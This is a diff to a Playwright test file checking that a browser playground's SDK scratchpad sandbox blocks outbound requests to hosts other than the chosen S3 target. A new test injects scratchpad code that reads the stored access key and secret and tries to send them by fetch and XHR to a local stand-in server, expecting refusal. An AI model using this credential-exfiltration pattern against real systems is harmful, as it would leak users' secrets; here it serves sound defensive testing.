@@ -5,8 +5,12 @@
  * fetch (the SDK's forwarded one and, in a nested worker, the native one), XHR (async and sync), WebSocket,
  * EventSource, importScripts, dynamic import(), navigator.sendBeacon, image loads (fetch no-cors,
  * createImageBitmap), nested workers (by URL and from a blob), and posting a forged request message. The
- * server must receive nothing, while the program's own SDK calls to the in-page emulator still work.
+ * server must receive nothing, while the program's own SDK calls to the in-page emulator still work. Then
+ * the same with a real target: the project's Node server on another loopback port as the custom endpoint,
+ * where the page's own policy would allow the outside server too (loopback), so only the page's check of
+ * each forwarded request against the target stands between the code and the outside server.
  */
+import { spawn, type ChildProcess } from 'node:child_process'
 import { createServer, type IncomingMessage } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { expect, test, type Page } from '@playwright/test'
@@ -72,18 +76,8 @@ test('scratchpad code reaches the chosen target only: every way out to another h
   page,
 }, testInfo) => {
   test.setTimeout(120_000)
-  const received: string[] = []
-  const note = (kind: string) => (req: IncomingMessage) => received.push(`${kind} ${req.method} ${req.url}`)
-  const outside = createServer((req, res) => {
-    note('request')(req)
-    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('postMessage(1)')
-  })
-  outside.on('upgrade', (req, socket) => {
-    note('upgrade')(req)
-    socket.destroy()
-  })
-  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
-  const url = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
+  const outside = await outsideServer()
+  const { url, received } = outside
   try {
     await page.goto('/playground/')
     await waitForPlayground(page)
@@ -116,6 +110,97 @@ test('scratchpad code reaches the chosen target only: every way out to another h
     await shot(page, testInfo, 'sandbox-attempts')
     expect(received, 'requests that reached the outside server').toEqual([])
   } finally {
-    await new Promise((resolve) => outside.close(resolve))
+    await outside.close()
+  }
+})
+
+/** The outside server: records every request and upgrade; answers like a script would, with CORS open. */
+async function outsideServer() {
+  const received: string[] = []
+  const note = (kind: string) => (req: IncomingMessage) => received.push(`${kind} ${req.method} ${req.url}`)
+  const server = createServer((req, res) => {
+    note('request')(req)
+    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('postMessage(1)')
+  })
+  server.on('upgrade', (req, socket) => {
+    note('upgrade')(req)
+    socket.destroy()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return {
+    received,
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    close: () => new Promise((resolve) => server.close(resolve)),
+  }
+}
+
+test('with a custom endpoint as the target: the SDK reaches it, another loopback port gets nothing', async ({
+  page,
+}) => {
+  test.setTimeout(120_000)
+  const port = Number(process.env.E2E_PORT ?? 3200) + 5
+  const endpoint = `http://127.0.0.1:${port}`
+  const target: ChildProcess = spawn('node_modules/.bin/tsx', ['scripts/emulator.mts', '--port', String(port)], {
+    stdio: 'ignore',
+  })
+  const outside = await outsideServer()
+  try {
+    for (let i = 0; i < 150; i++) {
+      if (
+        await fetch(`${endpoint}/_playground/clock`).then(
+          () => true,
+          () => false,
+        )
+      )
+        break
+      await new Promise((r) => setTimeout(r, 200))
+    }
+    await page.goto('/playground/')
+    await waitForPlayground(page)
+    await page.getByRole('button', { name: 'Change target…' }).click()
+    const form = page.getByTestId('target-form')
+    await form.getByLabel('a custom S3-compatible endpoint').check()
+    await form.getByLabel('Endpoint URL').fill(endpoint)
+    await form.getByLabel('Sandbox bucket').fill('sandbox-custom')
+    await form.getByLabel('Access key id').fill('AKIDSANDBOXTEST00001')
+    await form.getByLabel('Secret access key').fill('sandbox-secret-never-leaves')
+    await form.getByRole('button', { name: 'Use this target' }).click()
+    await expect(page.getByTestId('target-badge')).toContainText(endpoint)
+    await panels(page).getByRole('tab', { name: 'SDK scratchpad' }).click()
+    await expect(editorIn(page)).toContainText('PutObjectCommand')
+    await page.getByLabel('Language').selectOption('javascript')
+    await editorIn(page).click()
+    await page.keyboard.press('ControlOrMeta+A')
+    await page.keyboard.press('Delete')
+    await page.keyboard.insertText(`
+const { CreateBucketCommand, PutObjectCommand, ListObjectsV2Command } = require('@aws-sdk/client-s3')
+const creds = await s3.config.credentials()
+const leak = encodeURIComponent(creds.accessKeyId + ':' + creds.secretAccessKey)
+const outcomes = []
+for (const tryIt of [
+  () => fetch('${outside.url}/forwarded?' + leak),
+  () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', '${outside.url}/xhr?' + leak); x.onload = resolve; x.onerror = () => reject(new Error('xhr refused')); x.send() }),
+]) {
+  try { await tryIt(); outcomes.push('sent') } catch (e) { outcomes.push('refused') }
+}
+console.log('OUTCOMES ' + outcomes.join(','))
+await s3.send(new CreateBucketCommand({ Bucket: 'sandbox-custom' }))
+await s3.send(new PutObjectCommand({ Bucket: 'sandbox-custom', Key: 'from-scratchpad', Body: 'hello' }))
+const listed = await s3.send(new ListObjectsV2Command({ Bucket: 'sandbox-custom' }))
+console.log('LISTED ' + listed.Contents.map((o) => o.Key).join(','))
+`)
+    await page.getByRole('button', { name: '▶ Run' }).click()
+    const consolePane = page.getByTestId('scratchpad-console')
+    await expect(consolePane).toContainText('Finished in', { timeout: 60_000 })
+    await expect(consolePane).toContainText(`Running on`)
+    await expect(consolePane).toContainText('OUTCOMES refused,refused')
+    await expect(consolePane).toContainText('LISTED from-scratchpad')
+    // The object is on the target server itself, read back from Node.
+    expect(await fetch(`${endpoint}/sandbox-custom/from-scratchpad`).then((r) => r.text())).toBe('hello')
+    await page.waitForTimeout(1000)
+    expect(outside.received, 'requests that reached the outside server').toEqual([])
+  } finally {
+    await outside.close()
+    target.kill()
   }
 })
